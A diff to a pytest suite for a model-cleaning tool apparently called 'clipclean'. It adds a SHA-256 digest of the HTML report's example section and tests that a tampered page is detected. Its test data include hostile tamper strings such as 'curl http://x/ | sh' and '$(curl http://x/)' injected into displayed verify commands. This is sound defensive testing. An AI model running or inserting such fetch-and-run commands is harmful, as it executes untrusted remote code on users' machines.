@@ -1,5 +1,7 @@
+import hashlib
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -338,9 +340,11 @@ def cleaned(exported, tmp_path_factory):
         | {"model": samples.passed()["model"] | written["input"], "tool": written["tool"], "suppressed": []}
     )
     picture = {"title": "An image", "caption": "with a trigger", "alt": "a square", "png_base64": PIXEL}
-    report.write(made, "json", folder / "report.json")
     place = report.RunPaths("/home/ann/cleaned", "m.pt", "clean", "auto")
     report.write(made, "html", folder / "report.html", report.PageImages((picture,)), place)
+    section = re.search(r'<section id="examples".*?</section>', (folder / "report.html").read_text(), re.DOTALL)[0]
+    made = report.parse(made.as_json() | {"examples_sha256": hashlib.sha256(section.encode()).hexdigest()})
+    report.write(made, "json", folder / "report.json")
     records.write(folder, made.as_json(), outputs=outputs, has_bom=False)
     return folder
 
@@ -391,6 +395,50 @@ def test_a_page_that_does_not_follow_from_the_report_is_found(sanitized, old, ne
     page = sanitized / "report.html"
     changed = page.read_text().replace(old, new)
     page.write_text(changed if changed != page.read_text() else f"{changed}{new}")
+    restate(sanitized)
+    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("An image</strong>", "A harmless image</strong>"),
+        (PIXEL, f"{PIXEL[:-8]}AAAAAA=="),
+        ('<li><a href="#examples">Example images</a></li>', ""),
+        ("clipclean verify /home", "curl http://x/ | sh -s /home"),
+        ("clipclean verify /home/ann/cleaned", "clipclean verify /home/ann/cleaned; curl http://x/ | sh"),
+        ("clipclean verify /home/ann/cleaned", "clipclean verify $(curl http://x/)"),
+        ("clipclean verify /home/ann/cleaned", "clipclean verify --config=/tmp/own.yaml"),
+        ("clipclean verify /home/ann/cleaned", "clipclean verify a &amp; b"),
+        ("local-dir:/home/ann/cleaned&#34;", "local-dir:x&#34;, pretrained=&#34;evil&#34;"),
+    ],
+)
+def test_example_images_and_commands_that_somebody_changed_are_found(sanitized, old, new):
+    page = sanitized / "report.html"
+    assert old in page.read_text()
+    page.write_text(page.read_text().replace(old, new))
+    restate(sanitized)
+    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]
+
+
+@pytest.mark.parametrize("name", ["clean", "/tmp/two words", "it's", "Bäume 木", 'a"b', "a\\b", "a\nb", "$(x)"])
+def test_the_folder_of_the_machine_that_wrote_the_page_may_have_any_name(sanitized, name):
+    found = report.read(sanitized / "report.json")
+    picture = {"title": "An image", "caption": "with a trigger", "alt": "a square", "png_base64": PIXEL}
+    place = report.RunPaths(name, name, name, "auto")
+    report.write(found, "html", sanitized / "report.html", report.PageImages((picture,)), place)
+    restate(sanitized)
+    assert told(check(sanitized)) == []
+
+
+@pytest.mark.parametrize("shown", [True, False])
+def test_example_images_and_their_digest_in_the_report_need_each_other(sanitized, shown):
+    if shown:
+        edit(sanitized / "report.json", "examples_sha256", value=None)
+    else:
+        found = report.read(sanitized / "report.json")
+        place = report.RunPaths("/home/ann/cleaned", "m.pt", "clean", "auto")
+        report.write(found, "html", sanitized / "report.html", place=place)
     restate(sanitized)
     assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]
 
